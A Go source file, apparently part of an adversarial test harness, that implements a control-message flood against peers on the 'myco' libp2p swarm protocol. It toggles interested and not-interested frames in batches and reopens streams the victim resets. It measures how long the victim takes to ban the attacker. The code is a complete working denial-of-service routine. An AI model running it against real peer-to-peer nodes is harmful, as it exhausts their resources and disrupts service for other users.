package attack

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"github.com/ipfs/go-cid"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
)

// SwarmProtocol is myco's content exchange. Its messages are frames: a
// uvarint body length, then a type byte and the payload. Those used here:
// 1 handshake (uvarint version 1, uvarint-length-prefixed root CID bytes,
// uvarint leaf count, then optionally a length-prefixed name), 2 bitfield
// (uvarint leaf count, (count+7)/8 bytes), 4 interested and
// 5 not-interested (empty).
const SwarmProtocol protocol.ID = "/myco/swarm/1.0.0"

const (
	swarmHandshake     = 1
	swarmBitfield      = 2
	swarmInterested    = 4
	swarmNotInterested = 5
	// maxSwarmFrame bounds what the attacker reads: a block and its ref.
	maxSwarmFrame = 1<<20 + 1024
)

func swarmFrame(typ byte, payload []byte) []byte {
	b := binary.AppendUvarint(nil, uint64(1+len(payload)))
	b = append(b, typ)
	return append(b, payload...)
}

// SwarmFlood is what FloodSwarmControl achieved.
type SwarmFlood struct {
	// Messages written (handshakes and bitfields included), BytesOut
	// their frames; BytesIn what the victim sent back.
	Messages, BytesOut, BytesIn int64
	// Streams opened (the victim resets one it refuses; the attacker
	// opens another).
	Streams int
	// Banned is how long after the start the victim's connection went
	// away (zero if it never did); the flood stops then.
	Banned time.Duration
	Err    error
}

// FloodSwarmControl joins the victim's session of root (which it must
// serve) and sends interested and not-interested in turn, as fast as the
// stream takes them, reading whatever comes back, until the victim drops
// the connection or ctx ends. A stream the victim resets is replaced by a
// new one. Every message makes the victim's choker reconsider the peer.
func FloodSwarmControl(ctx context.Context, h host.Host, target peer.ID, root cid.Cid) SwarmFlood {
	var (
		res     SwarmFlood
		msgs    atomic.Int64
		bytesIn atomic.Int64
		start   = time.Now()
	)
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	// A batch of toggles, written in one go.
	var batch []byte
	for range 256 {
		batch = append(batch, swarmFrame(swarmInterested, nil)...)
		batch = append(batch, swarmFrame(swarmNotInterested, nil)...)
	}
	for ctx.Err() == nil {
		if h.Network().Connectedness(target) != network.Connected {
			res.Banned = time.Since(start)
			break
		}
		str, err := h.NewStream(network.WithNoDial(ctx, "attack"), target, SwarmProtocol)
		if err != nil {
			select { // the victim refuses streams: try again shortly
			case <-ctx.Done():
			case <-time.After(10 * time.Millisecond):
			}
			continue
		}
		res.Streams++
		stop := context.AfterFunc(ctx, func() { str.Reset() })
		err = floodSession(str, root, batch, &msgs, &bytesIn, &res.BytesOut)
		stop()
		str.Reset()
		if err != nil && res.Err == nil && !errors.Is(err, network.ErrReset) && ctx.Err() == nil {
			res.Err = err
		}
	}
	res.Messages, res.BytesIn = msgs.Load(), bytesIn.Load()
	return res
}

// floodSession runs one stream: our handshake, the victim's (for its leaf
// count), an empty bitfield, then toggles until a write fails.
func floodSession(str network.Stream, root cid.Cid, batch []byte, msgs, bytesIn *atomic.Int64, bytesOut *int64) error {
	var hs []byte
	hs = binary.AppendUvarint(hs, 1)
	hs = binary.AppendUvarint(hs, uint64(root.ByteLen()))
	hs = append(hs, root.Bytes()...)
	hs = binary.AppendUvarint(hs, 0) // we do not know the leaves yet
	if err := writeCounted(str, swarmFrame(swarmHandshake, hs), 1, msgs, bytesOut); err != nil {
		return err
	}
	br := bufio.NewReader(str)
	str.SetReadDeadline(time.Now().Add(10 * time.Second))
	body, err := readSwarmFrame(br)
	if err != nil {
		return fmt.Errorf("read the victim's handshake: %w", err)
	}
	bytesIn.Add(int64(len(body)))
	leaves, err := handshakeLeaves(body)
	if err != nil {
		return err
	}
	str.SetReadDeadline(time.Time{})
	bf := binary.AppendUvarint(nil, uint64(leaves))
	bf = append(bf, make([]byte, (leaves+7)/8)...)
	if err := writeCounted(str, swarmFrame(swarmBitfield, bf), 1, msgs, bytesOut); err != nil {
		return err
	}
	// Whatever the victim answers (its bitfield, chokes, unchokes) is
	// read and dropped, so its writer never waits on us.
	var wg sync.WaitGroup
	defer wg.Wait()
	wg.Go(func() {
		for {
			b, err := readSwarmFrame(br)
			if err != nil {
				return
			}
			bytesIn.Add(int64(len(b)))
		}
	})
	for {
		if err := writeCounted(str, batch, 512, msgs, bytesOut); err != nil {
			str.Reset() // ends the reader too
			return err
		}
	}
}

func writeCounted(w io.Writer, b []byte, n int64, msgs *atomic.Int64, bytesOut *int64) error {
	if _, err := w.Write(b); err != nil {
		return err
	}
	msgs.Add(n)
	*bytesOut += int64(len(b))
	return nil
}

func readSwarmFrame(r *bufio.Reader) ([]byte, error) {
	n, err := binary.ReadUvarint(r)
	if err != nil {
		return nil, err
	}
	if n == 0 || n > maxSwarmFrame {
		return nil, fmt.Errorf("swarm frame of %d bytes", n)
	}
	b := make([]byte, n)
	_, err = io.ReadFull(r, b)
	return b, err
}

// handshakeLeaves reads the leaf count from a handshake body.
func handshakeLeaves(body []byte) (int, error) {
	if len(body) == 0 || body[0] != swarmHandshake {
		return 0, errors.New("the victim did not answer with a handshake")
	}
	b := body[1:]
	if _, n := binary.Uvarint(b); n > 0 { // version
		b = b[n:]
	} else {
		return 0, errors.New("bad handshake version")
	}
	l, n := binary.Uvarint(b)
	if n <= 0 || uint64(len(b)-n) < l {
		return 0, errors.New("bad handshake root")
	}
	b = b[n+int(l):]
	leaves, n := binary.Uvarint(b)
	if n <= 0 || leaves > 1<<23 {
		return 0, errors.New("bad handshake leaf count")
	}
	return int(leaves), nil
}
